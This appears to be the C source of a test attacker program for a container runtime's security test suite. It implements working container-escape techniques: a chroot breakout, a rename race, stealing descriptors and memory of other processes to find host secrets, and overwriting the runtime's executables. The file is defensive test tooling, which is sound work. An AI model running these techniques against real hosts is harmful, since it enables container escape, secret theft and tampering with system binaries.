/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The attacker of tests/integration/security.bats, inside a container or beside one. Static: it runs in any image.
 *
 *	hostile swap A B STOP           exchange two directory entries until the file STOP is there
 *	hostile hunt STOP HOST WORD...  look into every other process of the pid namespace until STOP is there
 *	hostile climb HOST              leave a chroot by a descriptor, and look for HOST
 *	hostile fds                     print what is open, "N TARGET" a line
 *	hostile touch PATH              open it for writing and write; status 0 when that worked
 *
 * HOST is a path that only the host's tree has; WORD a text that only the host knows. Each find is a line that
 * begins with "FOUND"; the last line counts what was looked at, so that a hunt that met nobody is seen as such.
 */
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/uio.h>
#include <sys/vfs.h>
#include <unistd.h>

#define FD_MAX 32
#define KEPT_MAX 128
#define FINDS_MAX 200
#define CHUNK (64 * 1024)
#define REGION_MAX (1024 * 1024)
#define ENOUGH 21 /* executors met: the hunt says something */

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif
#define CGROUP_MAGIC 0x27e0eb
#define CGROUP2_MAGIC 0x63677270

static struct {
	const char *host;
	char **words;
	int n_words;
	int kept[KEPT_MAX]; /* programs of others, to be written to when those have ended */
	int n_kept;
	unsigned long finds, processes, executors, fds, maps, bytes, programs;
	int last_pid, rounds;
} hunt;

static void found(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static void found(const char *fmt, ...)
{
	va_list ap;

	if (hunt.finds++ >= FINDS_MAX)
		return;
	va_start(ap, fmt);
	printf("FOUND ");
	vprintf(fmt, ap);
	printf("\n");
	va_end(ap);
	fflush(stdout);
}

static void search(int pid, const char *where, const char *data, size_t n)
{
	for (int i = 0; i < hunt.n_words; i++)
		if (memmem(data, n, hunt.words[i], strlen(hunt.words[i])))
			found("the word '%.24s...' in %s of %d", hunt.words[i], where, pid);
}

/* HOST seen from a directory of another process: its own tree, or one above it. */
static void look_from(int pid, const char *what, int dir)
{
	char path[4096] = "";
	struct stat st;

	for (int up = 0; up < 12; up++) {
		size_t n = strlen(path);

		snprintf(path + n, sizeof(path) - n, "%s", hunt.host + 1);
		if (fstatat(dir, path, &st, 0) == 0) {
			found("the host's tree by %s of %d, %d up", what, pid, up);
			return;
		}
		snprintf(path + n, sizeof(path) - n, "../");
	}
}

static void look_by_link(int pid, const char *name)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	if (fd < 0)
		return;
	look_from(pid, name, fd);
	close(fd);
}

/* The null device, or what the container has by that name anyway. */
static int is_ours(const struct stat *st, const char *path)
{
	struct stat here;

	return (S_ISCHR(st->st_mode) && st->st_rdev == makedev(1, 3)) ||
	       (stat(path, &here) == 0 && here.st_dev == st->st_dev && here.st_ino == st->st_ino);
}

/*
 * It enters the container's cgroups by their lists of processes; who holds one can move what he sees to where it is.
 * A directory would be all of the cgroup's files.
 */
static void look_at_cgroup(int pid, int n, int fd, const char *target, int directory)
{
	static const char *const files[] = { "cgroup.procs", "memory.max", "pids.max" };
	const char *name = strrchr(target, '/');

	if (!directory) {
		if (!name || (strcmp(name, "/tasks") != 0 && strcmp(name, "/cgroup.procs") != 0))
			found("descriptor %d of %d: %s", n, pid, target);
		return;
	}
	for (int i = 0; i < 3; i++) {
		int file = openat(fd, files[i], O_WRONLY | O_CLOEXEC);

		if (file < 0)
			continue;
		found("descriptor %d of %d: %s of a cgroup to write to", n, pid, files[i]);
		close(file);
	}
}

/* A descriptor above the standard streams that was taken from another process. */
static void look_at_fd(int pid, int n, int fd)
{
	char link[64], target[4096];
	struct statfs fs;
	struct stat st;
	ssize_t len;

	hunt.fds++;
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	len = readlink(link, target, sizeof(target) - 1);
	target[len > 0 ? len : 0] = '\0';
	if (fstat(fd, &st) < 0)
		return;
	if (S_ISDIR(st.st_mode))
		look_from(pid, "a descriptor", fd);
	if (n < 3)
		return;
	if (fstatfs(fd, &fs) < 0)
		return;
	if (fs.f_type == CGROUP_MAGIC || fs.f_type == CGROUP2_MAGIC)
		look_at_cgroup(pid, n, fd, target, S_ISDIR(st.st_mode));
	/* The way back to its launcher, and what names the container's first process, are all else that it may have. */
	else if (!S_ISDIR(st.st_mode) && !S_ISSOCK(st.st_mode) && !is_ours(&st, target) &&
		 !strstr(target, "pidfd"))
		found("descriptor %d of %d: %s", n, pid, target);
}

static void take_fds(int pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	for (int n = 0; pidfd >= 0 && n < FD_MAX; n++) {
		int fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);

		if (fd < 0 && errno == ESRCH)
			break;
		if (fd < 0)
			continue;
		look_at_fd(pid, n, fd);
		close(fd);
	}
	if (pidfd >= 0)
		close(pidfd);
}

static void take_program(int pid)
{
	char path[64], name[4096];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	/* by what was opened: the process goes on meanwhile */
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	n = readlink(path, name, sizeof(name) - 1);
	name[n > 0 ? n : 0] = '\0';
	hunt.programs++;
	/* The image's programs may be written to by the image. */
	if (access(name, F_OK) == 0 || hunt.n_kept == KEPT_MAX) {
		close(fd);
		return;
	}
	search(pid, "the program's name", name, strlen(name));
	hunt.kept[hunt.n_kept++] = fd;
}

/* Nobody runs them any more, so that ETXTBSY is no answer. */
static void write_programs(void)
{
	char path[64], name[256];

	for (int i = 0; i < hunt.n_kept; i++) {
		ssize_t n;
		int fd;

		snprintf(path, sizeof(path), "/proc/self/fd/%d", hunt.kept[i]);
		n = readlink(path, name, sizeof(name) - 1);
		name[n > 0 ? n : 0] = '\0';
		for (int try = 0; try < 20; try++) {
			fd = open(path, O_WRONLY | O_CLOEXEC);
			if (fd >= 0 || errno != ETXTBSY)
				break;
			usleep(10000);
		}
		if (fd >= 0 && write(fd, "#!", 2) == 2)
			found("program '%s' was written to", name);
		if (fd >= 0 && ftruncate(fd, 0) == 0)
			found("program '%s' was cut", name);
		if (fd >= 0)
			close(fd);
	}
}

static void read_memory(int pid, unsigned long from, unsigned long to)
{
	static char data[CHUNK];

	for (unsigned long at = from; at < to && at - from < REGION_MAX; at += CHUNK) {
		size_t want = to - at < CHUNK ? to - at : CHUNK;
		struct iovec mine = { data, want }, theirs = { (void *)at, want };
		ssize_t n = process_vm_readv(pid, &mine, 1, &theirs, 1, 0);

		if (n <= 0)
			return;
		hunt.bytes += (size_t)n;
		search(pid, "the memory", data, (size_t)n);
	}
}

static void look_at_memory(int pid)
{
	char path[64], line[4352];
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
	maps = fopen(path, "re");
	if (!maps)
		return;
	while (fgets(line, sizeof(line), maps)) {
		unsigned long from, to;

		hunt.maps++;
		search(pid, "the maps", line, strlen(line));
		if (sscanf(line, "%lx-%lx r", &from, &to) == 2 && !strstr(line, "[v"))
			read_memory(pid, from, to);
	}
	fclose(maps);
}

static void look_at_text(int pid, const char *name)
{
	static char data[CHUNK];
	char path[64];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	n = read(fd, data, sizeof(data));
	if (n > 0)
		search(pid, name, data, (size_t)n);
	close(fd);
}

static int is_executor(int pid)
{
	char path[64], name[32] = "";
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return 0;
	n = read(fd, name, sizeof(name) - 1);
	close(fd);
	return n > 0 && (strncmp(name, "reeve-exec", 10) == 0 || strncmp(name, "runc", 4) == 0 ||
				strncmp(name, "crun", 4) == 0 || strncmp(name, "exe", 3) == 0);
}

static void look_at(int pid)
{
	if (pid != hunt.last_pid) {
		hunt.processes += pid > hunt.last_pid;
		hunt.last_pid = pid;
		hunt.rounds = 0;
	}
	/* What lives shortest first. */
	look_by_link(pid, "root");
	take_fds(pid);
	if (is_executor(pid) && ++hunt.executors == ENOUGH) {
		printf("met %d executors\n", ENOUGH);
		fflush(stdout);
	}
	if (hunt.rounds++ > 8) /* leave the others some time to live */
		return;
	look_by_link(pid, "cwd");
	take_program(pid);
	look_at_memory(pid);
	look_at_text(pid, "environ");
	look_at_text(pid, "cmdline");
}

static int cmd_hunt(char **argv, int argc)
{
	DIR *proc = opendir("/proc");
	struct dirent *d;

	if (!proc || argc < 3)
		return 2;
	hunt.host = argv[1];
	hunt.words = argv + 2;
	hunt.n_words = argc - 2;
	printf("ready\n");
	fflush(stdout);
	while (access(argv[0], F_OK) < 0) {
		rewinddir(proc);
		while ((d = readdir(proc)))
			if (isdigit((unsigned char)d->d_name[0]) && atoi(d->d_name) != getpid())
				look_at(atoi(d->d_name));
	}
	write_programs();
	printf("done: finds %lu processes %lu executors %lu fds %lu maps %lu bytes %lu programs "
	       "%lu kept %d\n",
		hunt.finds, hunt.processes, hunt.executors, hunt.fds, hunt.maps, hunt.bytes,
		hunt.programs, hunt.n_kept);
	closedir(proc);
	return 0;
}

static int cmd_swap(char **argv, int argc)
{
	unsigned long n = 0;

	if (argc != 3)
		return 2;
	printf("ready\n");
	fflush(stdout);
	while (n % 64 || access(argv[2], F_OK) < 0) {
		syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], RENAME_EXCHANGE);
		n++;
	}
	printf("done: %lu\n", n);
	return 0;
}

static int cmd_climb(char **argv, int argc)
{
	struct stat st;
	int fd = open("/", O_RDONLY | O_DIRECTORY);

	if (argc != 1 || fd < 0)
		return 2;
	mkdir("/climb", 0700);
	if (chroot("/climb") < 0 || fchdir(fd) < 0)
		return 2;
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			break;
	if (chroot(".") < 0)
		return 2;
	if (stat(argv[0], &st) == 0)
		printf("FOUND the host's tree\n");
	printf("done\n");
	return 0;
}

static int cmd_fds(void)
{
	char link[64], target[4096];

	for (int fd = 0; fd < 1024; fd++) {
		ssize_t n;

		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		n = readlink(link, target, sizeof(target) - 1);
		if (n < 0)
			continue;
		target[n] = '\0';
		printf("%d %s\n", fd, target);
	}
	return 0;
}

static int cmd_touch(const char *path)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	return fd >= 0 && write(fd, "|/x", 3) == 3 ? 0 : 1;
}

int main(int argc, char **argv)
{
	const char *what = argc > 1 ? argv[1] : "";

	if (strcmp(what, "hunt") == 0)
		return cmd_hunt(argv + 2, argc - 2);
	if (strcmp(what, "swap") == 0)
		return cmd_swap(argv + 2, argc - 2);
	if (strcmp(what, "climb") == 0)
		return cmd_climb(argv + 2, argc - 2);
	if (strcmp(what, "fds") == 0)
		return cmd_fds();
	if (strcmp(what, "touch") == 0 && argc == 3)
		return cmd_touch(argv[2]);
	fprintf(stderr, "hostile: swap, hunt, climb, fds or touch\n");
	return 2;
}
